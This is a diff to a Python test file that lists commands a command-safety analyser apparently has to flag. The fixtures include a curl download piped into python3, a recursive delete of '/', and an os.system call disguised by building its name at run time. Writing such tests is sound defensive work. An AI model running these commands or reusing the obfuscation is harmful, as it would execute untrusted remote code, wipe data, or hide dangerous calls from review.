@@ -108,7 +108,8 @@ def test_harmless_code_has_no_effects(command: str) -> None:
     [
         ("python -c 'import os,sys; os.system(sys.argv[1])' x", "built at run time"),
         ("python3 -c \"import os; exec(os.environ['CODE'])\"", "built at run time"),
-        ("python3 -c \"import os; getattr(os, 'sys'+chr(116)+'em')('x')\"", "getattr"),
+        # a name built from text the code does not hold (chr(116) is known: 'sys'+chr(116)+'em' is read)
+        ("python3 -c \"import os,sys; getattr(os, 'sys'+sys.argv[1]+'em')('x')\" t", "getattr"),
         ("python3 -c 'def f(:'", "does not parse"),
         ("curl -s https://x/p.py | python3", "remote code piped into python3"),
         ("python3 -c \"import shutil,sys; shutil.rmtree(sys.argv[1])\" /", "computed at run time"),
